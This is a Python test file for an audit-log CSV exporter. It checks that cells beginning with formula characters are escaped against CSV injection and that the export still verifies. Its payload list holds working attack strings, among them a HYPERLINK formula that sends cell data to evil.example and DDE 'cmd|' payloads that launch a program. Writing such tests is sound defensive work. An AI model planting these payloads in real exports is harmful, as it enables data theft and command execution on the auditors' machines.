"""CSV export cells a spreadsheet would run as formulas are escaped (OWASP "CSV injection").

On main an actor, subject or detail beginning with ``=``, ``+``, ``-`` or ``@``
reached the auditor's spreadsheet as a live formula (``=HYPERLINK(...)``
exfiltrating a cell, ``=cmd|...`` on old Excel). Now such a cell, or one
beginning with a tab, a CR or a quote, starts with ``'``; the export still
verifies, because the reader drops that quote again.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from fleet.audit.events import build_event
from fleet.audit.export import export_log, spreadsheet_safe, spreadsheet_value, verify_export
from tests.support.audit_world import audit_world

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_escaped_and_reads_back_exactly(payload: str) -> None:
    written = spreadsheet_safe(payload)
    assert isinstance(written, str) and written.startswith("'")
    assert spreadsheet_value(written) == payload


def test_exported_formulas_are_inert_and_the_export_still_verifies(tmp_path: Path) -> None:
    with audit_world(tmp_path) as world:
        world.log.append(
            [
                build_event(
                    actor=payload if i % 2 == 0 else "fleet-commander/test",
                    action="restart_agent",
                    subject=payload if i % 2 else "agent-1",
                    details={"note": payload},
                )
                for i, payload in enumerate(PAYLOADS)
            ]
        )
        out = io.BytesIO()
        export_log(world.log, out, fmt="csv")
        path = tmp_path / "export.csv"
        path.write_bytes(out.getvalue())

    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    entries = [r for r in rows if r["record"] == "entry"]
    assert len(entries) == len(PAYLOADS)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(dangerous), (column, cell)
    assert {r["actor"] for r in entries} >= {"'" + PAYLOADS[0], "'" + PAYLOADS[2]}
    check = verify_export(path, world.log.public_key)
    assert check.ok and check.entries == len(PAYLOADS), check.problems
